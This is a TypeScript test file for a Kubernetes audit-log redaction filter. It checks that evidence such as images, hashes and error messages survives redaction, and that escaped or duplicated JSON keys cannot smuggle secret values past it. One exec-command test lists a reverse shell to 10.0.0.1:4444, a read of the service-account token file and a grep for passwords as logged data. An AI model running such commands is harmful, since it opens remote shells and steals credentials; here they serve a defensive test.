// What redaction must leave alone: an audit log without names, images, hashes and reasons is no evidence. And events in
// forms that no API server writes, which must not be a way around it.
import { test } from 'tap'
import { Edits } from '../../../src/audit/edits.ts'
import { AuditFilter } from '../../../src/audit/filter.ts'
import { PADDING_BYTES } from '../../../src/audit/json/strings.ts'
import { Tape } from '../../../src/audit/json/tape.ts'
import { maskWith } from '../../../src/audit/redact/mask.ts'
import { IS_PATCH, IS_STATUS, IS_TEXT } from '../../../src/audit/redact/roles.ts'
import { Walk } from '../../../src/audit/redact/walk.ts'
import { fixtureLines, fixtureNames } from '../fixtures.ts'

const filter = new AuditFilter({ policy: null, mask: maskWith(null), lineBytesMax: 1e9 })

const EVENT = {
  kind: 'Event',
  apiVersion: 'audit.k8s.io/v1',
  level: 'RequestResponse',
  auditID: 'x',
  stage: 'ResponseComplete',
  requestURI: '/apis/apps/v1/namespaces/shop/deployments',
  verb: 'create',
  user: { username: 'alice' },
}

function redacted(line: string): string {
  const bytes = Buffer.from(`${line}\n`)
  let end = filter.judge(bytes, 0, bytes.length - 1)
  while (end === 'working') end = filter.step()
  return filter.buffer.toString('utf8', filter.start, filter.end)
}

const SHA256 = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'

const BODIES: Record<string, object> = {
  'images and their digests': {
    spec: {
      containers: [
        { image: `registry.k8s.io/x/web:1.27@sha256:${SHA256}`, args: [`--sidecar=envoy:v1@sha256:${SHA256}`] },
      ],
    },
    status: { containerStatuses: [{ imageID: `docker.io/x@sha256:${SHA256}`, containerID: `containerd://${SHA256}` }] },
  },
  'hashes that restart pods, and revisions': {
    metadata: {
      annotations: { 'checksum/config': SHA256, 'checksum/secret': SHA256, 'checksum.config/md5': SHA256.slice(32) },
    },
    status: { sync: { revision: SHA256.slice(24) }, updateRevision: 'web-7d4b9c6f5d', gitCommit: SHA256.slice(24) },
  },
  'names that refer to secrets': {
    spec: {
      imagePullSecrets: [{ name: 'regcred' }],
      tls: [{ secretName: 'shop-tls' }],
      env: [{ name: 'DB_PASSWORD', valueFrom: { secretKeyRef: { name: 'db', key: 'password' } } }],
      serviceAccountToken: { path: 'token', expirationSeconds: 3607 },
      automountServiceAccountToken: false,
    },
  },
  'rules about secrets': {
    rules: [{ apiGroups: [''], resources: ['secrets', 'serviceaccounts/token'], verbs: ['get'] }],
  },
  'flags of components': {
    spec: {
      containers: [
        {
          args: [
            '--authorization-mode=Node,RBAC',
            '--tls-private-key-file=/etc/kubernetes/pki/apiserver.key',
            '--validating-webhook-key=/usr/local/certificates/key',
            '--secret-name=ingress-admission',
            '--tls-cipher-suites=TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256,TLS_ECDHE_RSA_WITH_CHACHA20_POLY1305',
            '--requirepass',
            '$(REDIS_PASSWORD)',
          ],
          command: ['sh', '-c', 'TOKEN=$(cat /run/token); curl -H "Authorization: Bearer $TOKEN" https://x/healthz'],
        },
      ],
    },
  },
  'schemas and their descriptions': {
    spec: {
      password: { type: 'string', description: 'The Basic Authentication password of the token request.' },
      x: { description: 'If `automountServiceAccountToken: true`, see https://x.io/volumes/README.md#how-to-use-it' },
      enum: ['OpenMetricsText1.0.0', 'NoUTF8EscapingWithSuffixes'],
    },
  },
  'events of pods': {
    kind: 'Event',
    involvedObject: { kind: 'Pod', name: 'web-7d4b9c6f5d-x2x4z' },
    message: `MountVolume.SetUp failed for volume "certs" : secret "shop-tls" not found; container ${SHA256}`,
  },
  'certificates of authorities': {
    webhooks: [{ name: 'w.example.com', clientConfig: { service: { name: 'w' }, caBundle: SHA256 + SHA256 } }],
    spec: { caBundle: `${SHA256}==`, conversion: { webhook: { clientConfig: { caBundle: SHA256 } } } },
    data: { 'ca.crt': `-----BEGIN CERTIFICATE-----\n${SHA256}\n-----END CERTIFICATE-----\n` },
  },
  'pages of lists, public keys and files with references': {
    metadata: {
      continue: 'eyJ2IjoibWV0YS5rOHMuaW8vdjEiLCJydiI6MTI2OCwic3RhcnQiOiJiYXRjaC1hIn0',
      resourceVersion: '1268',
    },
    spec: { publicKey: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl' },
    data: { 'app.yaml': 'secretName: db\ntokenPath: /run/token\npassword: $(DB_PASSWORD)\nauth: oidc\nkey: x\n' },
  },
}

for (const [what, body] of Object.entries(BODIES)) {
  test(`stays as it is: ${what}`, (t) => {
    const event = { ...EVENT, requestObject: body, responseObject: body }
    t.same(JSON.parse(redacted(JSON.stringify(event))), event)
    t.end()
  })
}

test('stays as it is: what patches and mutating webhooks do to authorities and images', (t) => {
  const patch = [
    { op: 'replace', path: '/webhooks/0/clientConfig/caBundle', value: SHA256 },
    {
      op: 'add',
      path: '/spec/containers/-',
      value: { name: 'istio-proxy', image: `proxy@sha256:${SHA256}`, args: ['proxy'] },
    },
  ]
  const value = JSON.stringify({ configuration: 'c', webhook: 'vault.example.com', patch, patchType: 'JSONPatch' })
  const annotations = { 'patch.webhook.admission.k8s.io/round_1_index_2': value }
  const event = { ...EVENT, verb: 'patch', requestObject: patch, annotations }
  t.same(JSON.parse(redacted(JSON.stringify(event))), event)
  t.end()
})

test('messages say why, also of requests for secrets', (t) => {
  for (const message of [
    'secrets "db" not found',
    'secrets "db" already exists',
    'secrets is forbidden: User "alice" cannot list resource "secrets" in API group "" in the namespace "shop"',
    'Secret "Bad_Name" is invalid: metadata.name: Invalid value: "Bad_Name": a lowercase RFC 1123 subdomain must consist of',
    "secrets \"db\" is forbidden: ValidatingAdmissionPolicy 'p' with binding 'b' denied request: name not allowed",
    'Secret in version "v1" cannot be handled as a Secret: illegal base64 data at input byte 14',
    'invalid continue token: continue key is not valid: illegal base64 data at input byte 4',
    'Operation cannot be fulfilled on secrets "db": the object has been modified; please apply your changes to the latest version',
  ]) {
    const event = { ...EVENT, requestURI: '/api/v1/namespaces/shop/secrets', responseStatus: { code: 403, message } }
    t.equal(JSON.parse(redacted(JSON.stringify(event))).responseStatus.message, message)
  }
  t.end()
})

test('messages say what may not be changed, but for what variables of a container hold', (t) => {
  const event = (message: string) => ({ ...EVENT, responseStatus: { code: 422, message } })
  const claim =
    'PersistentVolumeClaim "x" is invalid: spec: Forbidden: is immutable after creation except resources.requests and volumeAttributesClassName for bound claims'
  t.same(JSON.parse(redacted(JSON.stringify(event(claim)))), event(claim))
  const template =
    'Job.batch "x" is invalid: spec.template: Invalid value: core.PodTemplateSpec{A:"b"}: field is immutable'
  t.equal(
    JSON.parse(redacted(JSON.stringify(event(template)))).responseStatus.message,
    'Job.batch "x" is invalid: spec.template: Invalid value: [redacted]: field is immutable',
  )
  t.end()
})

test('stays as it is: what policies and webhooks note in annotations', (t) => {
  const found = [{ message: 'must have the label "team"', policy: 'p', binding: 'b', validationActions: ['Audit'] }]
  const annotations = {
    'validation.policy.admission.k8s.io/validation_failure': JSON.stringify(found),
    'pod-security.kubernetes.io/audit-violations':
      'would violate PodSecurity "restricted:latest": runAsNonRoot != true',
    'w.example.com/decision': 'allowed by rule 7',
  }
  t.same(JSON.parse(redacted(JSON.stringify({ ...EVENT, annotations }))).annotations, annotations)
  const secrets = { ...EVENT, requestURI: '/api/v1/namespaces/shop/secrets', annotations }
  const told = JSON.parse(redacted(JSON.stringify(secrets))).annotations
  t.equal(told['w.example.com/decision'], 'allowed by rule 7')
  t.match(
    told['validation.policy.admission.k8s.io/validation_failure'],
    /must have the label \[redacted\]","policy":"p"/,
  )
  t.end()
})

test('stays as it is: scripts and texts that only refer to a password', (t) => {
  for (const text of [
    '#!/bin/sh\nmysql -u root -p"$PW" < dump.sql\nmysql -P 3306 -p$PW\ncurl -u "$USER:$PASS" https://x\n',
    'curl -u me:$PASS https://x/y | redis-cli -h db -a "$REDIS" ping',
    '<property name="secretName" value="db-credentials-of-the-shop"/>',
    '<property name="connection.password" value="$(DB_PASSWORD)"/>',
    'proxy_set_header X-Auth-Token "$token";',
    'env:\n- name: DB_PASSWORD\n  valueFrom:\n    secretKeyRef: {name: db, key: password}\n- name: MODE\n  value: production\n',
    "required: ['password', 'username']",
  ]) {
    const event = { ...EVENT, requestObject: { kind: 'ConfigMap', data: { 'run.sh': text } } }
    t.same(JSON.parse(redacted(JSON.stringify(event))), event)
  }
  t.end()
})

test('commands of an exec say what was done', (t) => {
  for (const command of [
    ['kubectl', 'get', 'secret', 'db'],
    ['grep', '-r', 'password', '/etc'],
    ['sh', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
    ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'],
    ['redis-cli', '-p', '26379', 'ping'],
    ['docker', 'login', 'registry.local'],
    ['sh', '-c', 'echo "$TOKEN" > /run/token; echo done > /tmp/state'],
    ['rabbitmqctl', 'list_queues', 'name', 'messages'],
    ['redis-cli', 'PING'],
  ]) {
    const query = command.map((argument) => `command=${encodeURIComponent(argument)}`).join('&')
    const event = { ...EVENT, requestURI: `/api/v1/namespaces/a/pods/b/exec?${query}&container=c&stdin=true` }
    t.same(JSON.parse(redacted(JSON.stringify(event))), event)
  }
  t.end()
})

/** Where in the recorded logs something is hidden, and nowhere else. */
const HIDDEN = [
  /\.extra\["authentication\.kubernetes\.io\/credential-id"\]\.\d+$/,
  /\.(?:spec\.request|status\.certificate|status\.token|spec\.token|spec\.apiKey)$/,
  /\["kubectl\.kubernetes\.io\/last-applied-configuration"\]$/,
  /\.env\.\d+\.value$/,
  /\.command\.\d+$/,
  /Object(?:\.items\.\d+)?\.data(?:\.|\[")(?:AWS_SECRET_ACCESS_KEY|DATABASE_URL|token|password|username|a|\.dockerconfigjson)(?:"\])?$/,
  /(?:causes\.\d+|responseStatus|responseObject)\.message$/,
]

function places(before: unknown, after: unknown, path: string, found: string[]): void {
  if (typeof before !== 'object' || before === null) {
    if (before !== after) found.push(path)
    return
  }
  for (const [key, value] of Object.entries(before)) {
    const step = /^[\w-]+$/.test(key) ? `.${key}` : `["${key}"]`
    places(value, (after as Record<string, unknown>)?.[key], path + step, found)
  }
}

for (const name of fixtureNames('.', '.log.gz')) {
  test(`in a recorded log nothing else is hidden than what is secret: ${name}`, (t) => {
    for (const line of fixtureLines(name)) {
      const found: string[] = []
      places(JSON.parse(line), JSON.parse(redacted(line)), '', found)
      const wrong = found.filter((path) => !HIDDEN.some((pattern) => pattern.test(path)))
      if (wrong.length > 0) t.same(wrong, [], line.slice(0, 400))
    }
    t.end()
  })
}

const SECRET = 'zqxjkvwords'
const BODY = { data: { x: Buffer.from(SECRET).toString('base64') }, stringData: { y: SECRET } }
const SECRETS = { ...EVENT, requestURI: '/api/v1/namespaces/a/secrets', requestObject: BODY }
const CUSTOM = { ...EVENT, requestURI: '/apis/x.io/v1/things', requestObject: 0 }
const withBody = (event: object, body: string) =>
  JSON.stringify({ ...event, requestObject: 0 }).replace('"requestObject":0', `"requestObject":${body}`)

test('no form that an event can have goes around redaction', (t) => {
  const body = JSON.stringify(BODY)
  const lines = {
    'an older version': JSON.stringify({ ...SECRETS, apiVersion: 'audit.k8s.io/v1beta1' }),
    'a list of events': JSON.stringify({ kind: 'EventList', apiVersion: 'audit.k8s.io/v1', items: [SECRETS] }),
    'an envelope': JSON.stringify({ log: JSON.stringify(SECRETS), stream: 'stdout' }),
    'an envelope of objects': JSON.stringify({ time: 'x', audit: SECRETS }),
    'no version': JSON.stringify({ ...SECRETS, apiVersion: undefined }),
    'an escaped kind': JSON.stringify(SECRETS).replace('"kind"', '"k\\u0069nd"'),
    'a byte order mark': `\ufeff${JSON.stringify(SECRETS)}`,
    'an escaped key': withBody(SECRETS, body.replace('"data"', '"d\\u0061ta"')),
    'an escaped member': JSON.stringify(SECRETS).replace('requestObject', 'requestObj\\u0065ct'),
    'a body given twice': JSON.stringify(SECRETS).replace('"requestObject"', `"requestObject":${body},"requestObject"`),
    'a body that is a text': JSON.stringify({ ...SECRETS, requestObject: body }),
    'an escaped kind of an embedded Secret': withBody(CUSTOM, `{"spec":{"k\\u0069nd":"Secret",${body.slice(1)}}`),
    'a kind given twice': withBody(CUSTOM, `{"spec":{"kind":"Secret",${body.slice(1, -1)},"kind":"Pod"}}`),
    'a kind given twice, the last one counts': withBody(
      CUSTOM,
      `{"spec":{"kind":"Pod",${body.slice(1, -1)},"kind":"Secret"}}`,
    ),
  }
  for (const [what, line] of Object.entries(lines)) {
    const out = redacted(line)
    t.notMatch(out, /zqxjk|enF4amt2d29/, what)
    t.match(out, '[redacted', what)
  }
  t.end()
})

/** A tape that counts how often somebody goes on from one value to the next. */
class CountingTape extends Tape {
  steps = 0

  override next(value: number): number {
    this.steps++
    return super.next(value)
  }
}

test('members that are given thousands of times: the others are gone through once', async (t) => {
  const many = 2000
  const cases: Record<string, [role: number, member: string]> = {
    'values, and what names them': [0, '"value":1'],
    'operations of a patch': [IS_PATCH, '"value":1'],
    'messages, and their field': [IS_STATUS | IS_TEXT, '"message":"a"'],
  }
  for (const [what, [role, member]] of Object.entries(cases)) {
    const text = Buffer.from(`{"name":"a",${new Array(many).fill(member).join(',')}}${' '.repeat(PADDING_BYTES)}`)
    const tape = new CountingTape()
    tape.begin(text, 0, text.length - PADDING_BYTES)
    t.equal(tape.run(), 'done', what)
    tape.steps = 0
    const walk = new Walk()
    const options = { mask: maskWith(null), redacts: true, level: null, dropsRequest: false, dropsResponse: false }
    walk.begin(tape, new Edits(), role, { ...options, requestRole: 0, responseRole: 0 })
    t.ok(walk.run(), what)
    t.ok(tape.steps < 10 * many, `${what}: ${tape.steps} steps for ${many} members`)
  }
})

test('each invalid value of a message is judged by its own field', async (t) => {
  const said = (message: string, details?: object) =>
    JSON.parse(redacted(JSON.stringify({ ...EVENT, responseStatus: { code: 422, message, details } }))).responseStatus
  const name = 'metadata.name: Invalid value: "A": a lowercase RFC 1123 subdomain'
  const whole = [
    `Widget.example.com "A" is invalid: ${name}`,
    `Widget.example.com "A" is invalid: [${name}, spec.size: Invalid value: 7: too big]`,
  ]
  for (const message of whole) t.equal(said(message).message, message)
  for (const other of [
    'spec.password: Invalid value: "hunter2": spec.password in body should match',
    'spec.apiKey: Invalid value: "hunter2": spec.apiKey in body should match',
    'spec.size: Invalid value: 7: too big, spec.containers[0].env[0].value: Invalid value: "hunter2": no',
    'users[0].passphrase: Unsupported value: "hunter2": supported values: "a"',
  ]) {
    const { message } = said(`Widget.example.com "A" is invalid: [${name}, ${other}]`)
    t.notMatch(message, 'hunter2', other)
    t.match(message, /"A": a lowercase/, 'what is before it stays')
  }
  for (const field of ['spec.apiKey', 'spec.dbPass', 'spec.passphrase', 'spec.privateKey', 'users[0].pass']) {
    const cause = {
      reason: 'FieldValueInvalid',
      message: `Invalid value: "hunter2": ${field} in body should match`,
      field,
    }
    t.notMatch(JSON.stringify(said('Widget "A" is invalid', { causes: [cause] })), 'hunter2', field)
  }
})
